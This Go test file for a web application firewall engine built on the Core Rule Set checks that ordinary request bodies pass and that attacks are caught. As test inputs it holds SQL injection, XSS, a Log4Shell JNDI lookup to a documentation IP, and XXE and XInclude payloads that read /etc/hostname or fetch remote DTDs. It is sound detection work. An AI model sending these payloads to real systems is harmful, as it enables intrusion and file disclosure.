package engine

import (
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/modsecurity-for-anylog/msa/mapping"
)

// postOf is a request with a body that is as long as it says.
func postOf(contentType, body string) *mapping.Transaction {
	var headers []mapping.Header
	if contentType != "" {
		headers = append(headers, mapping.Header{Name: "Content-Type", Value: contentType})
	}
	tx := get("/api/items", append(headers, mapping.Header{Name: "Content-Length", Value: strconv.Itoa(len(body))})...)
	tx.Method, tx.RequestBody.Text = "POST", body
	return tx
}

const multipartType = "multipart/form-data; boundary=Qq7"

func formField(name, value string) string {
	return "--Qq7\r\nContent-Disposition: form-data; name=\"" + name + "\"\r\n\r\n" + value + "\r\n"
}

func formFile(name, data string) string {
	return "--Qq7\r\nContent-Disposition: form-data; name=\"upload\"; filename=\"" + name + "\"\r\nContent-Type: application/octet-stream\r\n\r\n" + data + "\r\n"
}

const formLast = "--Qq7--\r\n"

// screened and unscreened are CRS with the screen and without.
func bothCRS(t *testing.T) map[string]*Engine {
	t.Helper()
	cfg := config("crs")
	cfg.Screen, cfg.CacheSize = ScreenOn, 1<<12
	return map[string]*Engine{"off": withCRS(t), "on": newEngine(t, cfg)}
}

// policy are rules of what a firewall forbids, and no attacks: methods, types, a missing type.
var policy = []int{911100, 920420, 920340, 920640, 949110, 980170}

// Ordinary bodies, whole and cut, are no attack.
func TestHarmlessBodies(t *testing.T) {
	engines := bothCRS(t)
	text := strings.Repeat("A line of a text.\r\nAnd one more.\r\n", 60)
	cut := func(tx *mapping.Transaction, n int) *mapping.Transaction {
		tx.RequestBody.Text, tx.RequestBody.Truncated = tx.RequestBody.Text[:n], true
		return tx
	}
	whole := formField("title", "Minutes") + formFile("minutes.txt", text) + formLast
	for name, tx := range map[string]*mapping.Transaction{
		"a form with a file":           postOf(multipartType, whole),
		"cut in the file":              cut(postOf(multipartType, whole), 1024),
		"cut in the headers of a part": cut(postOf(multipartType, whole), len(formField("title", "Minutes"))+30),
		"cut in a delimiter":           cut(postOf(multipartType, whole), len(whole)-len(formLast)+3),
		"cut behind the first name":    cut(postOf(multipartType, whole), len("--Qq7\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\n")),
		"a picture in a form":          postOf(multipartType, formFile("a.png", strings.Repeat("\ufffdPNG\r\n\x1a", 150))+formLast),
		"a picture":                    postOf("image/png", "\ufffdPNG\r\n\x1a\n\x00abc"),
		"a document":                   postOf("application/pdf", "%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj"),
		"bytes":                        postOf("application/octet-stream", "\x00\x01\ufffd\r\n\x02=&\n"),
		"gRPC":                         postOf("application/grpc", "\x00\x00\x00\x00\x07\n\x05Alice"),
		"text":                         postOf("text/plain; charset=utf-8", "Hello\nWorld"),
		"a table":                      postOf("text/csv", "id,name\n1,Ann\n2,O'Neil\n"),
		"lines of JSON":                postOf("application/x-ndjson", "{\"index\":{\"_index\":\"shop\"}}\n{\"title\":\"Tea\",\"n\":1}\n"),
		"lines of JSON as JSON":        postOf("application/json", "{\"index\":{\"_index\":\"shop\"}}\n{\"title\":\"Tea\",\"n\":1}\n"),
		"metrics":                      postOf("text/plain", "# TYPE jobs counter\njobs_total{queue=\"mail\"} 7\njobs_total{queue=\"sms\"} 9\n"),
		"lines without a type":         postOf("", "key=value\nother=value\n"),
		"a feed":                       postOf("application/xml", "<feed><link>http://www.example.org/</link><meta>x</meta></feed>"),
		"a call":                       postOf("text/xml", "<?xml version=\"1.0\"?>\n<methodCall><methodName>shop.list</methodName><params><param><value><int>4</int></value></param></params></methodCall>"),
		"a cut document":               cut(postOf("application/xml", "<feed><link>http://www.example.org/</link><entry a=\"b\">one two three</entry></feed>"), 60),
		"an image of the W3C's DTD":    postOf("image/svg+xml", "<!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd\"><svg><g/></svg>"),
		"JSON that is cut":             cut(postOf("application/json", `{"name":"Ann","text":"It's tea\nfor two"}`), 30),
		"what nobody can read": func() *mapping.Transaction {
			tx := postOf("application/json", "\x1f\ufffd\x08\x00\ufffd\ufffd\r\n\x00=&\r\n\ufffd")
			tx.RequestBody.Coded = true
			return tx
		}(),
	} {
		for screen, e := range engines {
			v := inspect(t, e, tx)
			found := slices.DeleteFunc(ids(v), func(id int) bool { return slices.Contains(policy, id) })
			if len(found) > 0 {
				t.Errorf("%s, screen %s: %v", name, screen, found)
			}
		}
	}
}

// An attack is found in any body that carries it, whatever its type says, and before the end of one that is cut.
func TestAttacksInBodies(t *testing.T) {
	engines := bothCRS(t)
	const sqli, xss = "1' UNION SELECT name, secret FROM accounts-- ", "<script>alert(1)</script>"
	cut := func(tx *mapping.Transaction) *mapping.Transaction {
		tx.RequestBody.Truncated = true
		return tx
	}
	for name, c := range map[string]struct {
		tx   *mapping.Transaction
		rule int
	}{
		"a field":                     {postOf(multipartType, formField("q", sqli)+formLast), 942100},
		"a field before the cut":      {cut(postOf(multipartType, formField("q", sqli)+formFile("a.bin", "data"))), 942100},
		"a field at the cut":          {cut(postOf(multipartType, formFile("a.bin", "data")+strings.TrimSuffix(formField("q", sqli), "\r\n"))), 942100},
		"behind a broken part":        {postOf(multipartType, "--Qq7\r\nbroken\r\n\r\nx\r\n"+formField("q", sqli)+formLast), 942100},
		"JSON beside a document":      {postOf("multipart/related; boundary=Qq7", "--Qq7\r\nContent-Type: application/json\r\n\r\n{\"q\":\""+sqli+"\"}\r\n--Qq7\r\nContent-Type: text/plain\r\n\r\nx\r\n--Qq7--"), 942100},
		"a file's name":               {postOf(multipartType, formFile("shell.php", "x")+formLast), 933110},
		"multipart of another type":   {postOf("text/plain", formField("q", sqli)+formLast), 942100},
		"multipart without a type":    {postOf("", formField("q", sqli)+formLast), 942100},
		"a form as text":              {postOf("text/plain", "a=1&q="+sqli), 942100},
		"a form without a type":       {postOf("", "q="+sqli), 942100},
		"JSON as text":                {postOf("text/plain", `{"q":"1\u0027 UNION SELECT name, secret FROM accounts-- "}`), 942100},
		"JSON as a form":              {postOf("application/x-www-form-urlencoded", `{"q":"1\u0027 UNION SELECT name, secret FROM accounts-- "}`), 942100},
		"JSON without a type, broken": {postOf("", `[{"q": "1' UNION SELECT name, secret FROM accounts-- ", 12 x`), 942100},
		"a key of JSON twice, first":  {postOf("application/json", `{"q":"`+sqli+`","q":"tea"}`), 942100},
		"a key of JSON twice, last":   {postOf("application/json", `{"q":"tea","q":"`+sqli+`"}`), 942100},
		"a line of JSON":              {postOf("application/x-ndjson", "{\"q\":\"tea\"}\n{\"q\":\""+sqli+"\"}\n"), 942100},
		"the last line of JSON, cut":  {cut(postOf("application/x-ndjson", "{\"q\":\"tea\"}\n{\"q\":\""+sqli)), 942100},
		"XML":                         {postOf("application/xml", "<a><param>x</param><q>"+sqli+"</q></a>"), 942100},
		"a call":                      {postOf("text/xml", "<methodCall><methodName>m</methodName><params><param><value><string>"+sqli+"</string></value></param></params></methodCall>"), 942100},
		"XML, cut":                    {cut(postOf("application/xml", "<a><link>x</link><q>"+sqli)), 942100},
		"CDATA":                       {postOf("application/xml", "<a><![CDATA["+xss+"]]></a>"), 941100},
		"an attribute":                {postOf("application/xml", `<a b="${jndi:ldap://198.51.100.7/a}"/>`), 944150},
		"an entity of its own":        {postOf("application/xml", `<!DOCTYPE a [<!ENTITY x "`+xss+`">]><a>&x;</a>`), 941100},
		"XML in ISO-8859-1":           {postOf("application/xml", "<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?><a>\xe9</a><q>"+sqli+"</q>"), 942100},
		"text":                        {postOf("text/plain", "Hello\njava.lang.Runtime.getRuntime().exec(x)"), 944100},
	} {
		for screen, e := range engines {
			if v := inspect(t, e, c.tx); !slices.Contains(ids(v), c.rule) {
				t.Errorf("%s, screen %s: %v", name, screen, ids(v))
			}
		}
	}
}

// A body that is not what its Content-Type says is read as what it is, and that it is not is told all the same.
func TestBodiesOfOtherTypes(t *testing.T) {
	const attack = "-1' union select name, password from users-- "
	bodies := map[string]struct{ text, at string }{
		"JSON":               {`{"q":"` + attack + `"}`, "ARGS:json.q"},
		"XML":                {"<a><q>" + attack + "</q></a>", "REQUEST_XML:/*"},
		"a form":             {"q=" + strings.ReplaceAll(attack, " ", "+"), "ARGS:q"},
		"a form in parts":    {formField("q", attack) + formLast, "ARGS:q"},
		"in parts, - before": {"-" + formField("q", attack) + "-" + formLast, "ARGS:q"},
	}
	for mode, e := range bothCRS(t) {
		for name, body := range bodies {
			for _, contentType := range []string{"application/json", multipartType} {
				if strings.Contains(contentType, "json") == (name == "JSON") && strings.Contains(contentType, "multipart") == (name == "a form in parts") {
					continue
				}
				v, err := e.Inspect(postOf(contentType, body.text))
				if err != nil {
					t.Fatal(err)
				}
				if !slices.ContainsFunc(v.Matches, func(m Match) bool {
					return m.RuleID == 942100 && slices.ContainsFunc(m.Places, func(p Place) bool { return p.Variable == body.at })
				}) {
					t.Errorf("screen %s: %s as %s: no match at %s: %v", mode, name, contentType, body.at, ids(v))
				}
				if !slices.ContainsFunc(v.Matches, func(m Match) bool { return m.RuleID == 200002 }) {
					t.Errorf("screen %s: %s as %s: nothing is wrong", mode, name, contentType)
				}
			}
		}
	}
}

// Well-formed XML is no broken body, and broken XML is one.
func TestBrokenBodyIsTold(t *testing.T) {
	const broken = 200002
	e := withCRS(t)
	for body, want := range map[string]bool{"<a><link>x</link></a>": false, "<a></a></b>": true} {
		if v := inspect(t, e, postOf("application/xml", body)); slices.Contains(ids(v), broken) != want {
			t.Errorf("%s: %v", body, ids(v))
		}
	}
}

// A body that can't be read is counted, and so is one that goes on with what can't.
func TestUnreadBody(t *testing.T) {
	e := withCRS(t)
	for name, body := range map[string]mapping.Body{"coded": {Text: "\x1f\ufffd", Coded: true}, "goes on": {Text: "a=1", Unread: true}} {
		tx := postOf("application/x-www-form-urlencoded", "")
		tx.RequestBody = body
		if v := inspect(t, e, tx); !slices.Equal(v.Uninspected, []string{"request_body"}) {
			t.Errorf("%s: %v", name, v.Uninspected)
		}
		tx.RequestBody, tx.ResponseBody = mapping.Body{}, body
		if v := inspect(t, e, tx); !slices.Equal(v.Uninspected, []string{"response_body"}) {
			t.Errorf("%s, response: %v", name, v.Uninspected)
		}
	}
}

// The rules that MSA adds to CRS about what a document draws in from elsewhere.
func TestExternalEntities(t *testing.T) {
	engines := bothCRS(t)
	const entity, saml, include, included, dtd = 9709010, 9709011, 9709020, 9709021, 9709030
	const document = `<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/hostname">]><a>&x;</a>`
	utf16 := func(s string) string { return "\xff\xfe" + strings.Join(strings.Split(s, ""), "\x00") + "\x00" }
	const xi = `<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/hostname"/></a>`
	for name, c := range map[string]struct {
		tx   *mapping.Transaction
		want []int
	}{
		"an entity":                  {postOf("application/xml", document), []int{entity}},
		"a parameter entity":         {postOf("text/xml", `<!DOCTYPE a [<!ENTITY % p SYSTEM "http://198.51.100.7/e.dtd"> %p;]><a/>`), []int{entity}},
		"a public entity":            {postOf("text/xml", `<!DOCTYPE a [<!ENTITY x PUBLIC "any" "file:///etc/hostname">]><a/>`), []int{entity}},
		"in UTF-16":                  {postOf("application/xml", utf16(document)), []int{entity}},
		"as text":                    {postOf("text/plain", document), []int{entity}},
		"in a form":                  {postOf("application/x-www-form-urlencoded", "xml=%3C!DOCTYPE%20a%20%5B%3C!ENTITY%20x%20SYSTEM%20%22file:///etc/hostname%22%3E%5D%3E"), []int{entity}},
		"escaped twice":              {postOf("application/json", `{"xml":"&lt;!ENTITY x SYSTEM &quot;file:///etc/hostname&quot;&gt;"}`), []int{entity}},
		"in JSON":                    {postOf("application/json", `{"xml":"<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/hostname\">]>"}`), []int{entity}},
		"in the query":               {get("/?xml=%3C!ENTITY%20x%20SYSTEM%20%22f%22%3E"), []int{entity}},
		"in an uploaded picture":     {postOf(multipartType, formFile("a.svg", document)+formLast), []int{entity}},
		"in a part of another kind":  {postOf("multipart/related; boundary=Qq7", "--Qq7\r\nContent-Type: text/xml\r\n\r\n"+document+"\r\n"+formLast), []int{entity}},
		"cut":                        {postOf("application/xml", document[:45]), []int{entity}},
		"in SAML":                    {postOf("application/x-www-form-urlencoded", "SAMLResponse=PCFET0NUWVBFIGEgWzwhRU5USVRZIHggU1lTVEVNICJmIj5dPjxhLz4%3D"), []int{saml}},
		"XInclude":                   {postOf("application/xml", xi), []int{include}},
		"XInclude in a picture":      {postOf("image/svg+xml", "<svg>"+xi+"</svg>"), []int{include, included}},
		"XInclude in JSON":           {postOf("application/json", `{"svg":"`+strings.ReplaceAll(xi, `"`, `\"`)+`"}`), []int{included}},
		"a DTD by its URL":           {postOf("application/xml", `<!DOCTYPE a SYSTEM "http://198.51.100.7/e.dtd"><a/>`), []int{dtd}},
		"a DTD with a public name":   {postOf("application/xml", `<!DOCTYPE a PUBLIC "any" "https://files.example/e.dtd"><a/>`), []int{dtd}},
		"a DTD that is a file":       {postOf("application/xml", `<!DOCTYPE a SYSTEM "file:///etc/hostname"><a/>`), []int{dtd}},
		"a DTD that seems the W3C's": {postOf("application/xml", `<!DOCTYPE a SYSTEM "http://www.w3.org.files.example/e.dtd"><a/>`), []int{dtd}},
		"a DTD of another's name":    {postOf("application/xml", `<!DOCTYPE a SYSTEM "http://www.w3.org@198.51.100.7/e.dtd"><a/>`), []int{dtd}},

		"no DTD":             {postOf("application/xml", "<a><include href=\"b.xml\">SYSTEM</include></a>"), nil},
		"the W3C's":          {postOf("text/xml", `<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd"><html/>`), nil},
		"a property list":    {postOf("text/xml", `<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd"><plist/>`), nil},
		"an order":           {postOf("text/xml", `<!DOCTYPE cXML SYSTEM "http://xml.cxml.org/schemas/cXML/1.2.014/cXML.dtd"><cXML/>`), nil},
		"HTML":               {postOf("application/json", `{"page":"<!DOCTYPE html><p>x</p>"}`), nil},
		"HTML, old":          {postOf("text/xml", `<!DOCTYPE html SYSTEM "about:legacy-compat"><html/>`), nil},
		"beside it":          {postOf("text/xml", `<!DOCTYPE note SYSTEM "note.dtd"><note/>`), nil},
		"an internal entity": {postOf("text/xml", `<!DOCTYPE a [<!ENTITY owner "Example Ltd, SYSTEM and PUBLIC relations">]><a>&owner;</a>`), nil},
		"a comment":          {postOf("text/xml", `<a><!-- `+document+` --></a>`), nil},
		"SAML without":       {postOf("application/x-www-form-urlencoded", "SAMLResponse=PFJlc3BvbnNlPjwvUmVzcG9uc2U%2B"), nil},
	} {
		for screen, e := range engines {
			v := inspect(t, e, c.tx)
			found := slices.DeleteFunc(ids(v), func(id int) bool { return id/1000 != entity/1000 })
			if !slices.Equal(found, c.want) || len(c.want) > 0 && !v.Alarm {
				t.Errorf("%s, screen %s: got %v, want %v, alarm %v", name, screen, found, c.want, v.Alarm)
			}
		}
	}
}
